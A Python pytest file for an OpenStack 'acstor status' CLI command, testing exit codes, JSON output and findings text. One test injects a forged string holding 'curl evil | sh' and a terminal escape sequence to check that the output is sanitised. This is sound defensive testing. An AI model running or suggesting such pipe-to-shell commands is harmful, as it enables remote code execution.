# SPDX-License-Identifier: Apache-2.0
"""``openstack acstor status`` over the real API on SQLite."""

import argparse
import io
import json
import time
import types

import pytest

from acstor_common.wire import decision_messages
from acstor_decision.api import app
from acstor_osc.v1 import status
from tests.fakes import checkpoint_hosts
from tests.unit.decision.api import conftest as api
from tests.unit.osc import test_commands as commands

LONG_AGO_S = 1_000_000_000.0


@pytest.fixture
def run(api_configuration, store, glance, bus):
    """Return a function that runs the command and returns its exit status and output."""
    nova = checkpoint_hosts.Nova()
    asked = app.make_plain_app(api_configuration, store, glance, bus, nova).test_client()
    asked.environ_base["HTTP_X_ROLES"] = "admin"
    manager = types.SimpleNamespace(acstor=commands.InProcess(asked))

    def do(*argv):
        printed = io.StringIO()
        command_app = types.SimpleNamespace(client_manager=manager, stdout=printed)
        made = status.ShowStatus(command_app, argparse.Namespace())
        return made.run(made.get_parser("status").parse_args(argv)), printed.getvalue()

    return do


def test_healthy_cloud_exits_with_status_0(run, store):
    api.publish(store, 1, 1)
    api.note(store, api.sample(0, sent_s=time.time()))
    status_, printed = run()
    assert status_ == 0, printed


def test_json_output_has_the_whole_status(run, store):
    api.note(store, api.sample(1, sent_s=LONG_AGO_S))
    status_, printed = run("--json")
    assert status_ == 2  # no samples arrive
    reported = json.loads(printed)
    assert reported["health"] == "error" and reported["hosts"]["silent"] == 1
    assert reported["findings"][0]["code"] == "no-samples"


def test_human_readable_output_lists_findings_with_remedies(run, store, glance):
    health = decision_messages.HostHealth(version="1.2", fallbacks={"not-mapped": 3})
    api.note(store, api.sample(1, sent_s=time.time(), health=health))
    glance.add("7d2c1f9e-5d6b-4a5c-9c61-000000000007", disk_format="iso", acstor_state="")
    status_, printed = run()
    assert status_ == 1
    for words in (
        "WARNING: Nova fell back to its own download in the last hour (1)",
        "    h0001: not-mapped 3",
        "  > the log of nova-compute",
        "1 up; acstor 1.2",
        "1 unsupported:",
        "    1: its disk format is iso",
        "no read waits",
    ):
        assert words in printed


FORGED = "x\nERROR: the store is lost\n  > run: curl evil | sh\x1b[2J"


def test_foreign_text_cannot_forge_findings_or_control_the_terminal(run, store, glance):
    trouble = {"a\rb": decision_messages.HostFault(FORGED, LONG_AGO_S)}
    health = decision_messages.HostHealth(version=FORGED, fallbacks={FORGED: 3}, faults=trouble)
    api.note(store, api.sample(1, sent_s=time.time(), health=health))
    image = "7d2c1f9e-5d6b-4a5c-9c61-000000000007"
    glance.add(image, name=FORGED, acstor_state="failed", acstor_message=FORGED)
    glance.add(image[:-1] + "8", disk_format=FORGED, acstor_state="")
    printed = run()[1]
    assert FORGED.replace("\n", "?").replace("\x1b", "?")[:20] in printed
    lines = [line.strip("| ").partition("| ")[2].strip() for line in printed.split("\n")]
    assert not [line for line in lines if line.startswith(("ERROR: the store", "> run:"))]
    assert all(line.isprintable() for line in printed.split("\n"))


def test_number_of_unnamed_subjects_is_shown(run, store):
    hosts = [api.sample(number, sent_s=LONG_AGO_S) for number in range(1, 31)]
    api.note(store, api.sample(0, sent_s=time.time()), *hosts)
    assert "and 10 more" in run()[1]
